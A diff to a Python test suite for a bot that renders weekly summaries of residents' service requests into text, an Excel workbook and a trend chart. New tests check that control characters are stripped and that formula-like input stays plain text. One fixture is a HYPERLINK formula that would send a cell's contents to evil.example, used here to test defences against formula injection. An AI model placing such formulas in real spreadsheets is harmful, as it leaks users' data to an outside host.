@@ -71,7 +71,10 @@ def test_text_holds_the_headline_numbers(data: tuple[WeeklySummary, list[RawRequ
     assert "电梯" in text
     assert "共 5 件：待签收 4，办理中 1，超时 <b>3</b>" in text
     assert "签收中位 3.0小时（P90 39.0小时）" in text
-    assert "· X：签收2 办结2 及时100% 办结率100% 满意4.5分/解决100% 重开1" in text
+    # X: ratings 5 and 4; of three answers this week (r1 是, r8 否 then 是) two solved.
+    assert "· X：签收2 办结2 及时100% 办结率100% 满意4.5分/解决67% 重开1" in text
+    assert "· Y：签收1 办结1 及时0% 办结率50% 满意3.0分/解决—" in text
+    assert "「我也遇到了」1 次" in text  # one press; D's merged request is not a press
     assert "居民更正 1/7（14%）" in text
 
 
@@ -207,7 +210,7 @@ def test_workbook_cells(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
     assert orgs[1][:7] == ("X", 2, 2, 1.0, 2, 0, 1.0)
     assert book[t.SHEET_ORGANISATIONS]["D2"].number_format == "0.0%"
     times = list(book[t.SHEET_TIMES].iter_rows(values_only=True))
-    assert times[1] == (t.TIMES_ALL, 3, 3.0, 39.0, 3, 60.0, 164.8)
+    assert times[1] == (t.TIMES_ALL, 3, 3.0, 39.0, 3, 45.0, 46.6)
 
 
 def test_workbook_requests_sheet_masks_and_localises(
@@ -231,3 +234,78 @@ def test_workbook_of_an_empty_week(empty: WeeklySummary) -> None:
     assert book[t.SHEET_REQUESTS].max_row == 1
     notes = [row[0] for row in book[t.SHEET_NOTES].iter_rows(min_row=2, values_only=True)]
     assert any("Asia/Shanghai" in str(line) for line in notes)
+
+
+# --- what residents wrote, in the workbook ------------------------------------------------------
+
+
+def _hostile(
+    data: tuple[WeeklySummary, list[RawRequest]], **fields: object
+) -> tuple[WeeklySummary, list[RawRequest]]:
+    from dataclasses import replace
+
+    summary, raw = data
+    return summary, [replace(raw[0], **fields), *raw[1:]]  # type: ignore[arg-type]
+
+
+def test_workbook_drops_control_characters(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
+    """openpyxl refuses control characters: old rows may hold them; the workbook is made."""
+    from dataclasses import replace
+
+    summary, raw = _hostile(
+        data, text="电梯\x07坏了\x1b[31m", community="玉林\x0b社区", building="3\x00栋"
+    )
+    cluster = replace(summary.clusters[0], excerpt="电梯\x1b坏了")
+    community = replace(summary.communities[0], community="望江\x08社区")
+    summary = replace(summary, clusters=(cluster,), communities=(community,))
+    book = load_workbook(io.BytesIO(render_workbook(summary, raw, category_name)))
+    first = [cell.value for cell in book[t.SHEET_REQUESTS][2]]
+    assert (first[4], first[5], first[-1]) == ("玉林社区", "3栋", "电梯坏了[31m")
+    assert book[t.SHEET_CLUSTERS]["E2"].value == "电梯坏了"
+    assert book[t.SHEET_COMMUNITIES]["A2"].value == "望江社区"
+
+
+def test_workbook_never_holds_a_formula(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
+    """Texts that start like formulas (= + - @) are read back as the same plain text."""
+    from dataclasses import replace
+
+    link = '=HYPERLINK("http://evil.example/?q="&A1,"点这里")'
+    summary, raw = _hostile(data, text=link, community="+玉林社区", building="-3栋")
+    cluster = replace(summary.clusters[0], excerpt="=1+1", community="@SUM(A1)")
+    summary = replace(summary, clusters=(cluster,))
+    book = load_workbook(io.BytesIO(render_workbook(summary, raw, category_name)))
+    sheet = book[t.SHEET_REQUESTS]
+    text = sheet.cell(2, len(t.REQUEST_HEADERS))
+    assert (text.value, text.data_type) == (link, "s")
+    assert text.quotePrefix  # Excel keeps it text even when the cell is edited
+    assert (sheet["E2"].value, sheet["F2"].value) == ("+玉林社区", "-3栋")
+    assert book[t.SHEET_CLUSTERS]["E2"].value == "=1+1"
+    formulas = [
+        (ws.title, cell.coordinate)
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+
+
+# --- the trend ----------------------------------------------------------------------------------
+
+
+def test_chart_totals_are_the_weeks_totals(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
+    """Each week's total under its label is the week's, whatever categories are drawn."""
+    from dataclasses import replace
+
+    from matplotlib.figure import Figure
+
+    from bot.summary_render import _draw_trend
+
+    summary = replace(data[0], trend_totals=(11, 12, 13, 14))
+    ax = Figure().add_subplot()
+    _draw_trend(ax, summary, category_name)
+    labels = [label.get_text() for label in ax.get_xticklabels()]
+    assert [label.splitlines()[-1] for label in labels] == [
+        f"{t.CHART_TOTAL} {n}" for n in (11, 12, 13, 14)
+    ]
+    assert data[0].trend_totals == (1, 1, 3, 5)  # the fixture: r12; r11; r8-r10; W47's five
